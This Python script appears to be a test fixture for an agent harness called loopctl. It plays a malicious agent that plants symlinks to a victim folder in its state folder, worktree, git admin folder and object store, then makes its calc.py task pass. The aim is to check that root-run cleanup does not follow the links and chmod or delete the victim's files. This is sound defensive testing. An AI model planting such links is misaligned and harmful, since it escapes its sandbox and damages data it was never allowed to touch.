"""A maker that leaves links to a victim folder everywhere loopctl works after its turn, then
fixes calc.py so that its task passes.

argv: VICTIM. loopctl runs unconfined (as root here) after the turn: it cleans the overlay of
the object store, opens up and deletes folders of a recycled or pruned worktree, removes
preserved folders, clears the worktree's git admin folder. Each of those, done through a path,
would follow a link planted here and chmod or delete inside VICTIM. Planted:

- in its state folder (writable): `git-objects` (where the object overlay used to live) and
  `git-objects/work` as links to VICTIM; an aider history file that is a link;
- beside it, where the overlay lives now: the same, which the sandbox must refuse;
- in the worktree: `deps` -> VICTIM on the way to the preserved `deps/cache`; a folder made
  unlistable (mode 300) holding a link and a folder; `node_modules` -> VICTIM;
- in the worktree's git admin folder: `logs` and `planted` -> VICTIM;
- in the object store (its private overlay): `objects/zz` -> VICTIM.

Each step prints `LINKS <where> <outcome>`; the test judges from VICTIM's modes and files.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
from pathlib import Path


def say(where: str, outcome: str) -> None:
    print(f"LINKS {where} {outcome}", flush=True)


def plant(link: Path, target: Path, where: str) -> None:
    try:
        if link.is_symlink() or link.is_file():
            link.unlink()
        elif link.is_dir():
            link.rename(link.with_name(link.name + ".moved"))
        link.symlink_to(target)
        say(where, f"planted {link}")
    except OSError as exc:
        say(where, f"refused {link}: {exc.strerror}")


def git(*args: str) -> str:
    done = subprocess.run(["git", *args], capture_output=True, text=True, check=False)
    return done.stdout.strip()


def main() -> None:
    victim = Path(sys.argv[1])
    if not sys.stdin.isatty():
        sys.stdin.read()
    role = os.environ.get("LOOPCTL_ROLE", "maker")
    attempt = Path(os.environ["LOOPCTL_PROMPT_FILE"]).parent
    state = attempt / f"{role}-state"
    plant(state / "git-objects", victim, "state")
    with contextlib.suppress(OSError):
        (state / "layer").mkdir(exist_ok=True)
    plant(state / "layer" / "work", victim, "state")
    plant(state / f"{role}.aider.chat.history.md", victim / "file.txt", "state")
    layer = attempt / f"{role}-state.git-objects"
    plant(layer / "work", victim, "layer")
    plant(layer / "upper", victim, "layer")
    plant(Path("deps"), victim, "worktree")
    plant(Path("node_modules"), victim, "worktree")
    locked = Path("locked")
    with contextlib.suppress(OSError):
        (locked / "inner").mkdir(parents=True, exist_ok=True)
    plant(locked / "out", victim, "worktree")
    sealed = Path("sealed")  # ignored, so the verdict's walk of ignored folders meets it
    with Path(".gitignore").open("a") as ignore:
        ignore.write("\nsealed/\n")
    with contextlib.suppress(OSError):
        (sealed / "inner").mkdir(parents=True, exist_ok=True)
    plant(sealed / "out", victim, "worktree")
    with contextlib.suppress(OSError):
        # Unlistable, still searchable: `git clean` cannot empty it, so loopctl opens it up.
        locked.chmod(0o300)
        # Not even searchable: the verdict's walk, too, meets a folder it cannot enter.
        sealed.chmod(0o000)
    admin = Path(git("rev-parse", "--path-format=absolute", "--git-dir"))
    plant(admin / "logs", victim, "admin")
    plant(admin / "planted", victim, "admin")
    objects = Path(git("rev-parse", "--path-format=absolute", "--git-common-dir")) / "objects"
    plant(objects / "zz", victim, "objects")
    calc = Path("calc.py")
    calc.write_text(calc.read_text().replace("a - b", "a + b"))


if __name__ == "__main__":
    main()
